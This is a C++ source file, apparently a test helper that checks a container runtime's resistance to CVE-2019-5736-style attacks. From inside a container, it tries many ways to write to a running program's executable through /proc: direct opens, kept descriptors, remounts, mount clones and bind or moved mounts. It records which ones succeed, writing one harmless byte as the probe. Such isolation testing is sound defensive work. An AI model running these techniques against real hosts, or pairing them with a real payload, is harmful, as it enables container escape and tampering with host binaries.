// Owns: every way known to write to a running program's file through /proc (CVE-2019-5736 and its
// successors), tried from inside a container. Does not own: the container, or the verdict on the
// host's file.
//
// exe_attack grab LINK OUT    opens LINK (/proc/PID/exe) and tries to write now; then keeps the
//                             descriptor, waits until OUT.gone exists, tries again through it, and
//                             writes one line "opened WAY" or "wrote WAY" for each that worked
// exe_attack nop              does nothing: the same program as the attacker's own
// exe_attack wait OUT         waits for a process whose executable is not this one's own,
//                             anywhere under /proc, then does the same
#include <dirent.h>
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

FILE* out;
// The file that was grabbed: the victim's. A path below /proc/PID leads elsewhere once the victim
// has executed the container's own program, which may be cloned and bound at will.
struct stat victim;

bool is_victim(const struct stat& file) {
  return file.st_dev == victim.st_dev && file.st_ino == victim.st_ino;
}

bool is_victim(int fd) {
  struct stat file = {};
  return fstat(fd, &file) == 0 && is_victim(file);
}

void pause_ms(long ms) {
  const timespec t = {ms / 1000, ms % 1000 * 1'000'000};
  nanosleep(&t, nullptr);
}

// A byte past the header where a change would be seen by a digest but no crash is likely.
void try_write(int fd, const char* way) {
  std::fprintf(out, "opened %s\n", way);
  const char byte = 'X';
  if (pwrite(fd, &byte, 1, 9) == 1) std::fprintf(out, "wrote %s\n", way);
}

void try_open(const std::string& path, const char* way) {
  for (int flags : {O_RDWR, O_WRONLY, O_WRONLY | O_APPEND}) {
    int fd = open(path.c_str(), flags | O_CLOEXEC);
    if (fd < 0) continue;
    if (is_victim(fd)) try_write(fd, way);
    close(fd);
  }
  if (truncate(path.c_str(), 100) == 0) std::fprintf(out, "wrote truncate %s\n", way);
}

void clear_read_only(const std::string& path, const char* when) {
  auto say = [&](const char* way) { std::fprintf(out, "cleared %s %s\n", way, when); };
  mount_attr attributes = {};
  attributes.attr_clr = MOUNT_ATTR_RDONLY;
  if (mount_setattr(AT_FDCWD, path.c_str(), 0, &attributes, sizeof attributes) == 0)
    say("mount_setattr");
  if (mount("none", path.c_str(), nullptr, MS_REMOUNT | MS_BIND, nullptr) == 0) say("remount-bind");
  if (mount("none", path.c_str(), nullptr, MS_REMOUNT, nullptr) == 0) say("remount");
  int tree = open_tree(AT_FDCWD, path.c_str(), OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
  if (tree >= 0 && is_victim(tree)) {
    say("open_tree");
    if (mount_setattr(tree, "", AT_EMPTY_PATH, &attributes, sizeof attributes) == 0)
      say("clone+mount_setattr");
    try_open("/proc/self/fd/" + std::to_string(tree), "through a clone");
  }
  if (tree >= 0) close(tree);
  if (mkdir("/tmp/exe-attack", 0700) == 0 || errno == EEXIST) {
    close(open("/tmp/exe-attack/bind", O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
    if (mount(path.c_str(), "/tmp/exe-attack/bind", nullptr, MS_BIND, nullptr) == 0) {
      struct stat bound = {};
      if (stat("/tmp/exe-attack/bind", &bound) == 0 && is_victim(bound)) say("bind");
      mount("none", "/tmp/exe-attack/bind", nullptr, MS_REMOUNT | MS_BIND, nullptr);
      try_open("/tmp/exe-attack/bind", "through a bind mount");
      umount2("/tmp/exe-attack/bind", MNT_DETACH);
    }
    if (move_mount(AT_FDCWD, path.c_str(), AT_FDCWD, "/tmp/exe-attack/bind", 0) == 0) {
      say("move_mount");
      mount("none", "/tmp/exe-attack/bind", nullptr, MS_REMOUNT | MS_BIND, nullptr);
      try_open("/tmp/exe-attack/bind", "through a moved mount");
      umount2("/tmp/exe-attack/bind", MNT_DETACH);
    }
  }
}

void attack(const std::string& path, const char* when) {
  try_open(path, (std::string("directly ") + when).c_str());
  clear_read_only(path, when);
  try_open(path, (std::string("after clearing flags ") + when).c_str());
}

int attack_all(const std::string& link, const std::string& out_path, int kept) {
  std::string by_fd = "/proc/self/fd/" + std::to_string(kept);
  attack(link, "while it runs");
  attack(by_fd, "by descriptor while it runs");
  std::fflush(out);
  std::string gone = out_path + ".gone";
  close(open((out_path + ".attacked").c_str(), O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
  for (int i = 0; i < 1000 && access(gone.c_str(), F_OK) != 0; ++i) pause_ms(10);
  attack(by_fd, "once it is gone");
  std::fprintf(out, "done\n");
  std::fclose(out);
  return 0;
}

// The first process other than this one whose executable can be opened and is another file.
int find_victim(std::string& link) {
  struct stat own = {}, other = {};
  stat("/proc/self/exe", &own);
  DIR* proc = opendir("/proc");
  if (proc == nullptr) return -1;
  int found = -1;
  while (dirent* entry = readdir(proc)) {
    if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || std::atoi(entry->d_name) == getpid())
      continue;
    link = std::string("/proc/") + entry->d_name + "/exe";
    int fd = open(link.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    if (fstat(fd, &other) == 0 && (other.st_ino != own.st_ino || other.st_dev != own.st_dev)) {
      victim = other;
      found = fd;
      break;
    }
    close(fd);
  }
  closedir(proc);
  return found;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc == 2 && std::strcmp(argv[1], "nop") == 0) return 0;
  if (argc != 4 && argc != 3) return 2;
  const std::string mode = argv[1];
  const std::string out_path = argv[argc - 1];
  out = std::fopen(out_path.c_str(), "we");
  if (out == nullptr) return 3;
  std::string link = argc == 4 ? argv[2] : "";
  int kept = -1;
  if (mode == "grab") {
    kept = open(link.c_str(), O_RDONLY | O_CLOEXEC);
    if (kept >= 0) fstat(kept, &victim);
  } else {
    for (int i = 0; i < 200'000 && kept < 0; ++i) kept = find_victim(link);
  }
  if (kept < 0) {
    std::fprintf(out, "no victim\n");
    return 4;
  }
  std::fprintf(out, "grabbed\n");
  return attack_all(link, out_path, kept);
}
